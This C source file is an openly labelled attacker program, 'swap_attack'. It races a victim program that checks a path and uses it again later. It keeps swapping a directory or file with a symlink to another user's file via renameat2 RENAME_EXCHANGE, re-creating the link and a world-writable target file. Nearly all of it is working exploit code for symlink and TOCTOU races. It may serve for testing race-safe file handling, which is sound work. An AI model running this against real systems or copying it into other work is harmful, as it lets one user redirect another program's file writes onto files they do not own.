/*
 * An attacker: exchanges two of its own names as fast as the machine can.  One is a directory or a
 * file, the other one a link to another user's.  A program that looks at a path once and uses it
 * again later may first find the one and then the other.
 *
 *     swap_attack <name> <name of the link> <where the link leads> <file>
 *
 * Makes the link again when it was replaced, and the file, in which the victim means to save, when
 * it does not belong to the attacker any more.  Stops when the standard input ends, and prints how
 * often it has exchanged the names.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

enum { ROUNDS = 64 }; /* even: then the names are as they were */

/* A failure here does not matter: the next round tries again. */
static void make_link(const char *name, const char *link, const char *target) {
    char text[1];

    if (readlink(name, text, sizeof text) < 0 && readlink(link, text, sizeof text) < 0) {
        (void)unlink(link);
        if (symlink(target, link) != 0)
            perror("symlink");
    }
}

static void make_file(const char *path) {
    struct stat file;
    int fd;

    if (lstat(path, &file) == 0 && file.st_uid == geteuid())
        return;
    (void)unlink(path);
    if ((fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0666)) < 0)
        return;
    (void)fchmod(fd, 0666);
    (void)close(fd);
}

int main(int count, char **arguments) {
    struct pollfd input = {.fd = 0, .events = POLLIN};
    unsigned long exchanges = 0;

    if (count != 5)
        return 2;
    while (poll(&input, 1, 0) == 0) {
        for (int round = 0; round < ROUNDS; round++)
            exchanges +=
                renameat2(AT_FDCWD, arguments[1], AT_FDCWD, arguments[2], RENAME_EXCHANGE) == 0;
        make_link(arguments[1], arguments[2], arguments[3]);
        make_file(arguments[4]);
    }
    return printf("%lu\n", exchanges) < 0;
}
